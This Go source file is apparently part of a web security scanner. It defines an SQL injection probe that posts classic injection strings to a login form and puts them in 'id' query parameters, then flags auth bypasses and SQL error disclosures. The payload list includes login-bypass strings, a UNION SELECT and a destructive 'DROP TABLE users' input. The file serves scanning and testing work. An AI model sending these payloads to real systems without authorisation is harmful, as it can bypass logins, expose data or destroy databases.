package scanners

import (
	"context"
	"fmt"
	"net/http"
	"net/url"

	"github.com/yorozuya-cybersecurity/ecomprobe/internal/registry"
	"github.com/yorozuya-cybersecurity/ecomprobe/internal/schema"
)

const sqlCategory = "SQL Injection"

var sqlPayloads = []string{
	"' OR '1'='1",
	"' OR '1'='1' --",
	"' OR '1'='1' /*",
	"'; DROP TABLE users; --",
	"' UNION SELECT * FROM users --",
	"1' AND '1'='1",
	"1' OR '1'='1",
	"admin'--",
	"admin' #",
	"admin'/*",
	"' OR 1=1#",
	"' OR 1=1--",
	"' OR 1=1/*",
	"') OR '1'='1--",
	"') OR ('1'='1--",
}

// GET trials use only the leading payloads.
const sqlQueryPayloads = 5

var sqlErrorKeywords = []string{"sql", "database", "mysql", "postgresql"}

var sqlAuthRules = Rules{
	{
		Name:     "auth-bypass",
		Match:    statusIn(http.StatusOK),
		Severity: schema.SeverityHigh,
		Category: sqlCategory,
		Describe: describe("Authentication bypass possible via SQL injection"),
	},
	{
		Name:     "auth-error-disclosure",
		Match:    all(statusIn(http.StatusInternalServerError), bodyContainsAny(sqlErrorKeywords...)),
		Severity: schema.SeverityMedium,
		Category: sqlCategory,
		Describe: describe("SQL error disclosed in response"),
	},
}

var sqlQueryRules = Rules{
	{
		Name:     "query-error-disclosure",
		Match:    all(statusIn(http.StatusInternalServerError), bodyContainsAny(sqlErrorKeywords...)),
		Severity: schema.SeverityMedium,
		Category: sqlCategory,
		Describe: func(o Observation) string {
			return fmt.Sprintf("SQL error disclosed in %s", o.Service)
		},
	},
}

// SQLInjection sends injection strings to the login form and as an id query
// parameter on every other service.
type SQLInjection struct{}

func (SQLInjection) Name() string { return "sql-injection" }

func (SQLInjection) Services(reg *registry.Registry) []registry.ServiceID {
	return reg.Services()
}

func (p SQLInjection) Run(ctx context.Context, env Env) (Outcome, error) {
	var out Outcome
	l := env.probeLogger(p)
	l.Info().Msg("Testing SQL injection")

	authURL, err := env.Registry.URL(env.BaseURL, registry.AuthEndpoint)
	if err != nil {
		return out, err
	}
	for _, payload := range sqlPayloads {
		if err := ctx.Err(); err != nil {
			return out, err
		}
		req := jsonRequest(http.MethodPost, authURL, credentials{Username: payload, Password: "test"})
		res, ok := env.send(ctx, &out, l, req)
		if !ok {
			continue
		}
		o := observe(registry.AuthEndpoint, req.Method, authURL, res)
		o.Payload = payload
		o.Field = "username"
		env.evaluate(&out, sqlAuthRules, o)
	}

	for _, id := range env.Registry.Except(registry.AuthEndpoint) {
		base, err := env.Registry.URL(env.BaseURL, id)
		if err != nil {
			return out, err
		}
		for _, payload := range sqlPayloads[:sqlQueryPayloads] {
			if err := ctx.Err(); err != nil {
				return out, err
			}
			target := base + "?" + url.Values{"id": {payload}}.Encode()
			res, ok := env.send(ctx, &out, l, getRequest(target))
			if !ok {
				continue
			}
			o := observe(id, http.MethodGet, target, res)
			o.Payload = payload
			o.Field = "id"
			env.evaluate(&out, sqlQueryRules, o)
		}
	}
	return out, nil
}
